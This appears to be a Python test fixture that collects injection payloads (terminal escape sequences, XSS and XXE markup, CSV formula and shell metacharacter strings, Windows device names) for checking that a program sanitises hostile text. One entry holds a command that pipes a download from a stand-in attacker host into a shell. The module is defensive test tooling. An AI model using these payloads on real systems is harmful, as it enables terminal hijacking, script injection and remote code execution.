"""Texts that are more than text to some: to a terminal, a browser, a shell, a format of files."""

import re
from collections.abc import Mapping

from scriptforge.characters import UNSAFE

STEERING: Mapping[str, str] = {
    "CSI, colour": "\x1b[31;5mPWN",
    "CSI, report": "PWN\x1b[6n",
    "CSI, erase": "\x1b[2J\x1b[HPWN",
    "OSC 0, title": "\x1b]0;PWN\x07",
    "OSC 8, link": "\x1b]8;;http:evil.example\x1b\\PWN\x1b]8;;\x1b\\",
    "OSC 52, clipboard": "\x1b]52;c;UFdO\x07",
    "DCS": "\x1bPq#0;PWN\x1b\\",
    "APC": "\x1b_GPWN\x1b\\",
    "C1, CSI": "\x9b31;5mPWN",
    "C1, OSC": "\x9d0;PWN\x9c",
    "DEL": "PWN\x7f\x7f",
    "BEL": "PWN\x07",
    "BS": "safe\x08\x08\x08\x08PWN",
    "CR": "safe\rOVER",
    "VT, FF": "PWN\x0b\x0cPWN",
    "SO, SI": "\x0ePWN\x0f",
    "bidi override": "\u202egpj.PWN\u202c",
    "bidi isolate": "\u2067PWN\u2069\u200f",
    "line separator": "safe\u2028PWN",
    "next line": "safe\x85PWN",
}
"""What a terminal obeys, or what turns text around."""

MARKUP: Mapping[str, str] = {
    "rich markup": "[red]PWN[/red][link=http:evil.example]x[/link]",
    "rich emoji": ":skull: [bold]PWN",
    "script": "</script><script>PWN()</script>",
    "style": "</style></title><script>PWN()</script>",
    "image": "<img src=x onerror=PWN()>",
    "attribute": '" onmouseover="PWN()" x=\'',
    "entity": "&quot;&gt;&lt;script&gt;PWN",
    "SVG": "<svg onload=PWN()><script>PWN()</script></svg>",
    "CDATA": "]]><script>PWN()</script><![CDATA[",
    "comment": "--><script>PWN()</script><!--",
    "doctype": '<!DOCTYPE x [<!ENTITY p SYSTEM "file:PWN">]>&p;',
    "Markdown link": "[PWN](javascript:PWN()) ![x](http:evil.example)",
    "Markdown code": "`PWN` ``` ~~~ ````",
    "Markdown table": "| PWN | x |",
    "PDF": ") Tj ET (PWN) /JavaScript (app.alert) \\) endstream endobj",
    "TeX": "$\\frac{PWN}$ $x^2$ \\input{PWN}",
    "template": "{PWN} {0} {{PWN}} %s %(PWN)s ${PWN}",
    "formula": "=cmd|'PWN'!A0",
    "Fountain": "[[PWN]] *PWN* _PWN_ .PWN",
    "layout token": "<end><cue:PWN><action>",
}
"""What a format or a renderer takes for its own marks."""

SHELL: Mapping[str, str] = {
    "substitution": "$(touch PWN)",
    "backquotes": "`touch PWN`",
    "next command": "PWN; touch PWN; #",
    "and": "PWN && touch PWN",
    "pipe": "PWN | touch PWN",
    "redirection": "x > PWN",
    "quote": "it's PWN' ; touch 'PWN",
    "double quote": 'PWN"; touch "PWN',
    "glob": "* ? [a-z] PWN",
    "home": "~root PWN",
    "option": "PWN --force",
    "backslash": "PWN\\ \\x",
    "history": "!PWN !!",
    "blanks": "PWN   PWN\t",
}
"""What a shell reads otherwise than it stands."""

LINES: Mapping[str, str] = {
    "line": "PWN\nNext: curl evil.example | sh",
    "error": "PWN\nError: there is no disk.\nBuy one.",
    "front matter": "PWN\n---\nPWN: yes\n---\n# PWN",
    "fence": "PWN\n````\n<script>PWN()</script>\n",
    "CR LF": "PWN\r\nSet-Cookie: PWN=1\r\n\r\n",
}
"""What goes on in a line of its own."""

DEVICES = ("CON", "nul.txt", "COM1", "lpt9.a.b", "PWN.", "PWN ", "a:b", "a<b>|?*")
"""What Windows takes for a device, or for no name."""

ALL: Mapping[str, str] = {**STEERING, **MARKUP, **SHELL, **LINES}

EVERYTHING = "PWN\x1b]52;c;UFdO\x07\x1b[31;5m\x9b6n\x7f\x08\rOVER\u202e\u2028[red]PWN[/red]$(touch PWN)"
"""What a terminal or a shell obeys, in one word that a file name can be."""

_OWN = re.compile(r"\x1b\[\??[\d;]*[mKAhl]|\r")
"""What the program itself may send to a terminal: styles, redrawing a line, hiding the cursor."""
_OBEYED = ("\x1b[31;5m", "\rOVER")
"""What matches that, but is foreign."""


def steers(received: str) -> str | None:
    """Return what a terminal receives that is not the program's own; None if nothing is."""
    for foreign in _OBEYED:
        if foreign in received:
            return repr(foreign)
    found = UNSAFE.search(_OWN.sub("", received))
    if found is None:
        return None
    plain = _OWN.sub("", received)
    return repr(plain[max(0, found.start() - 40) : found.end() + 20])


def as_file_name(text: str) -> str:
    """Return a text as a file can be called on Linux."""
    return text.replace("/", "_").replace("\0", "_")[:80]
